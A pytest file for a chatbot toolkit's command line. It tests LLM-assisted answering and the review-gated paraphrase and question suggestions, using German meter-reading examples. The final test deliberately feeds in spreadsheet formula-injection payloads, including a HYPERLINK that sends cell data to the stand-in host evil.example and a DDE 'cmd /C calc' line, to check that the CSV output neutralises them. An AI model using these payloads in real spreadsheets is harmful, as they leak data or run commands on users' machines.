"""`botkit ask --llm` and the workshop helpers against the fake server.

Commands run in-process, so the session's embedder is reused instead of loaded by a new process per
command: with typer's CliRunner, and refusals through `botkit.cli.main` (as `python -m botkit` runs it),
which turns errors into the message and exit status they check.
"""

from __future__ import annotations

import hashlib
import json
import os
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml
from typer.testing import CliRunner

from botkit.cli import app
from botkit.errors import EvaluationDataError
from botkit.evaluation.cases import load_cases
from botkit.knowledge import load_knowledge
from tests.cli_main import run_main
from tests.conftest import SAMPLE
from tests.llm.fake_openai import API_KEY


@dataclass(frozen=True)
class Run:
    returncode: int
    stdout: str
    stderr: str


def run(*args: str, env: dict[str, str]) -> Run:
    """The command with `env` as its only BOTKIT_* settings; it must end in a clean exit, never an uncaught exception."""
    unset: dict[str, str | None] = {k: None for k in os.environ if k.startswith("BOTKIT_")}
    result = CliRunner().invoke(app, list(args), env={**unset, **env})
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return Run(result.exit_code, result.stdout, result.stderr)


def llm_env(fake) -> dict[str, str]:
    return {"BOTKIT_LLM_BASE_URL": fake.url, "BOTKIT_LLM_API_KEY": API_KEY, "BOTKIT_LLM_MODEL": "fake-model"}


def tree_hash(folder: Path) -> str:
    digest = hashlib.sha256()
    for path in sorted(p for p in folder.rglob("*") if p.is_file() and ".review" not in p.parts and ".botkit" not in str(p)):
        digest.update(path.name.encode() + path.read_bytes())
    return digest.hexdigest()


def test_ask_json_reports_the_phrasing_and_why_it_was_verbatim(fake_llm, sample_index_dir):
    fake_llm.script("Ich bin ein Mensch und helfe Ihnen: melden Sie den Zählerstand online.")
    args = ("ask", str(SAMPLE), "Wie melde ich meinen Zählerstand?", "--json", "--index-dir", str(sample_index_dir))
    result = run(*args, env=llm_env(fake_llm))
    assert result.returncode == 0, result.stderr
    data = json.loads(result.stdout)
    assert (data["phrasing"], data["phrasing_reason"]) == ("verbatim", "gate:human_claim")
    assert data["decision"] == "answered" and len(fake_llm.requests) == 1


def test_the_llm_switch_without_an_endpoint_or_key_says_what_to_set(sample_index_dir):
    args = ("ask", str(SAMPLE), "Wie melde ich meinen Zählerstand?", "--llm", "--index-dir", str(sample_index_dir))
    result = run_main(*args, env={})
    assert result.returncode == 1
    assert "BOTKIT_LLM_API_KEY" in result.stderr and "Traceback" not in result.stderr


def test_paraphrase_suggestions_go_to_a_review_file_and_leave_the_knowledge_alone(fake_llm, kb_copy):
    fake_llm.script("- Zählerstand online melden\n2. Wo trage ich meinen Stromzählerstand ein?\nZählerstand durchgeben")
    before = tree_hash(kb_copy)
    result = run("llm", "paraphrases", str(kb_copy), "--entry", "zaehlerstand-melden", env=llm_env(fake_llm))
    assert result.returncode == 0, result.stderr
    [review] = (kb_copy / ".review").glob("paraphrases-*.yaml")
    data = yaml.safe_load(review.read_text(encoding="utf-8"))
    [item] = data["entries"]
    assert item["id"] == "zaehlerstand-melden"
    # list marks stripped; "Zählerstand durchgeben" is already a paraphrase of the entry
    assert item["suggestions"] == ["Zählerstand online melden", "Wo trage ich meinen Stromzählerstand ein?"]
    assert tree_hash(kb_copy) == before
    assert len(load_knowledge(kb_copy).entries) == len(load_knowledge(SAMPLE).entries)


def test_question_suggestions_cannot_be_evaluated_before_review(fake_llm, kb_copy, tmp_path):
    fake_llm.script("Wie gebe ich den Gaszählerstand durch?\nKann ich den Zählerstand per App schicken?")
    out = tmp_path / "questions.csv"
    result = run("llm", "questions", str(kb_copy), "--entry", "zaehlerstand-melden", "--out", str(out), env=llm_env(fake_llm))
    assert result.returncode == 0, result.stderr
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "question,expected_id,lang,review"
    assert lines[1].startswith("Wie gebe ich den Gaszählerstand durch?,zaehlerstand-melden,de,unreviewed")
    with pytest.raises(EvaluationDataError, match="review"):
        load_cases(out)


def test_suggestions_are_never_written_where_the_knowledge_base_would_load_them(fake_llm, kb_copy):
    result = run_main("llm", "questions", str(kb_copy), "--out", str(kb_copy / "questions.csv"), env=llm_env(fake_llm))
    assert result.returncode == 1
    assert "would become part of the knowledge base" in result.stderr
    assert not (kb_copy / "questions.csv").exists()
    assert fake_llm.requests == []


def test_question_suggestions_csv_does_not_carry_spreadsheet_formulas(fake_llm, kb_copy, tmp_path):
    import csv

    fake_llm.script('=HYPERLINK("http://evil.example/?d="&A1,"Zählerstand")\n@SUM(1+1)*cmd|\' /C calc\'!A0')
    out = tmp_path / "questions.csv"
    result = run("llm", "questions", str(kb_copy), "--entry", "zaehlerstand-melden", "--out", str(out), env=llm_env(fake_llm))
    assert result.returncode == 0, result.stderr
    questions = [row["question"] for row in csv.DictReader(out.read_text(encoding="utf-8").splitlines())]
    assert questions == ['\'=HYPERLINK("http://evil.example/?d="&A1,"Zählerstand")', "'@SUM(1+1)*cmd|' /C calc'!A0"]
